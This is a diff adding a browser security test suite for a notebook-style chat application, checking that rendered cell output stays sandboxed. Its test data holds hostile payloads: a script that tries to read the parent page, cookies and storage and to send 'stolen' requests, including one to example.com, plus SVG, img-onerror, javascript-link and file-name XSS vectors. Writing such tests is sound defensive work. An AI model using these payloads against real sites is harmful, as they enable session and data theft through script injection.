@@ -1,0 +1,134 @@
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { eventually } from '../api/harness.ts';
+import { type RunningPage, startPage } from './page-harness.ts';
+
+/** Tries everything that would lead out of the frame, and writes what came of it into its own document. */
+const attack = `
+<h1 id="seen">…</h1>
+<form id="form" method="post" action="/v1/chats?stolen=form"></form>
+<script>
+  const tried = {};
+  const attempt = async (name, work) => {
+    try { tried[name] = String(await work()); } catch (error) { tried[name] = error.name; }
+  };
+  const event = (target, good, bad) => new Promise((done) => { target[good] = () => done('reached'); target[bad] = () => done('refused'); });
+  (async () => {
+    await attempt('parent', () => parent.document.body.innerHTML);
+    await attempt('frames', () => parent.frames[1].document.body);
+    await attempt('top', () => { top.location = '/?stolen=top'; });
+    await attempt('cookie', () => document.cookie);
+    await attempt('localStorage', () => localStorage.length);
+    await attempt('sessionStorage', () => sessionStorage.length);
+    await attempt('indexedDB', () => indexedDB.open('x'));
+    await attempt('fetch', () => fetch('/v1/chats?stolen=fetch'));
+    await attempt('post', () => fetch('/v1/chats?stolen=post', { method: 'POST', body: '{}', mode: 'no-cors' }));
+    await attempt('elsewhere', () => fetch('https://example.com/?stolen=elsewhere', { mode: 'no-cors' }));
+    await attempt('beacon', () => navigator.sendBeacon('/v1/chats?stolen=beacon', '{}') && 'sent');
+    await attempt('image', () => { const image = new Image(); image.src = '/v1/chats?stolen=image'; return event(image, 'onload', 'onerror'); });
+    await attempt('script', () => { const script = document.createElement('script'); script.src = '/v1/chats?stolen=script'; document.body.append(script); return event(script, 'onload', 'onerror'); });
+    await attempt('socket', () => event(new WebSocket('ws://' + new URL(document.baseURI).host + '/v1/chats/x/terminal?stolen=socket'), 'onopen', 'onerror'));
+    await attempt('worker', () => event(new Worker('data:text/javascript,postMessage(1)'), 'onmessage', 'onerror'));
+    await attempt('popup', () => window.open('/?stolen=popup'));
+    await attempt('form', () => document.getElementById('form').submit());
+    const inner = document.createElement('iframe');
+    inner.src = '/v1/chats?stolen=frame';
+    document.body.append(inner);
+    parent.postMessage({ type: 'height', height: 1e9 }, '*');
+    document.getElementById('seen').textContent = JSON.stringify(tried);
+  })();
+</script>`;
+
+/** Goes to the API by itself: a request that no policy of the frame can forbid. */
+const wanderer = "<script>location.href = '/v1/chats?stolen=location'</script>";
+
+describe('hostile output', () => {
+  let running: RunningPage;
+  let page: Page;
+  const answers: string[] = [];
+  beforeAll(async () => {
+    running = await startPage();
+    page = await running.visit();
+    page.on('response', (answer) => {
+      if (answer.url().includes('stolen')) answers.push(`${answer.status()} ${answer.url()}`);
+    });
+    page.context().on('page', (popup) => answers.push(`popup ${popup.url()}`));
+  });
+  afterAll(() => running?.[Symbol.asyncDispose]());
+
+  const show = async (number: number, html: string) => {
+    await page
+      .getByLabel(`Code of cell ${number}`)
+      .fill(`from IPython.display import HTML\nHTML(${JSON.stringify(html)})`);
+    await page.getByLabel(`Run cell ${number}`).click();
+    const cell = page.getByRole('listitem').filter({ has: page.getByLabel(`Code of cell ${number}`) });
+    await cell.locator('iframe').waitFor();
+    return cell.locator('iframe');
+  };
+  const cookies = async () => (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`);
+
+  test('runs its scripts in a frame, from which it reaches nothing', async () => {
+    const url = page.url();
+    const frame = await show(1, attack);
+    const seen = frame.contentFrame().locator('#seen');
+    await eventually(async () => (await seen.textContent())?.startsWith('{'), 60_000);
+    const tried = JSON.parse((await seen.textContent()) ?? '{}');
+    expect(tried).toMatchObject({
+      parent: 'SecurityError',
+      frames: 'SecurityError',
+      top: 'SecurityError',
+      cookie: 'SecurityError',
+      localStorage: 'SecurityError',
+      sessionStorage: 'SecurityError',
+      fetch: 'TypeError',
+      post: 'TypeError',
+      elsewhere: 'TypeError',
+      image: 'refused',
+      script: 'refused',
+      socket: 'refused',
+      popup: 'null',
+    });
+    expect(answers).toEqual([]);
+    expect(new URL(page.url()).search).toBe(new URL(url).search);
+    expect((await frame.boundingBox())?.height).toBeLessThan(600);
+  });
+
+  test('that goes to the API by itself is refused, and takes nobody their chats', async () => {
+    const [before, count] = [await cookies(), answers.length];
+    await page.getByRole('button', { name: 'Python' }).click();
+    await show(2, wanderer);
+    await eventually(async () => answers.length > count);
+    expect(answers.slice(count).filter((answer) => !answer.startsWith('403 '))).toEqual([]);
+    expect(await cookies()).toEqual(before);
+    await page.reload();
+    await page.getByRole('navigation', { name: 'Your chats' }).getByRole('link').first().waitFor();
+  });
+
+  test('as SVG is a picture, and as text it is text', async () => {
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"><script>parent.pwned=1</script><rect width="9" height="9"/></svg>';
+    const text = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
+    await page
+      .getByLabel('Code of cell 1')
+      .fill(
+        `from IPython.display import SVG, Markdown, display\ndisplay(SVG(data='''${svg}'''))\ndisplay(Markdown('''${text}\n\n[link](javascript:window.pwned=1) ![x](https://example.com/?stolen=markdown)'''))\nprint('''${text}''')\nraise ValueError('''${text}''')`,
+      );
+    await page.getByLabel('Run cell 1').click();
+    await page.getByText('link', { exact: true }).waitFor();
+    await page.getByText('ValueError').first().waitFor();
+    expect(await page.locator('.outputs svg rect, .outputs script, .outputs img[onerror]').count()).toBe(0);
+    expect(await page.locator('.outputs a[href^="javascript"]').count()).toBe(0);
+    expect(await page.evaluate('window.pwned')).toBeUndefined();
+    expect(answers.filter((answer) => answer.includes('markdown'))).toEqual([]);
+  });
+
+  test('in the name of a file is text', async () => {
+    const name = '<img src=x onerror=window.pwned=1>.txt';
+    await page.getByLabel('Code of cell 1').fill(`open(${JSON.stringify(name)}, 'w').write('x')`);
+    await page.getByLabel('Run cell 1').click();
+    await page.getByText('Done in').first().waitFor();
+    await page.getByRole('button', { name: 'Files', exact: true }).click();
+    await page.getByRole('link', { name }).waitFor();
+    expect(await page.evaluate('window.pwned')).toBeUndefined();
+  });
+});
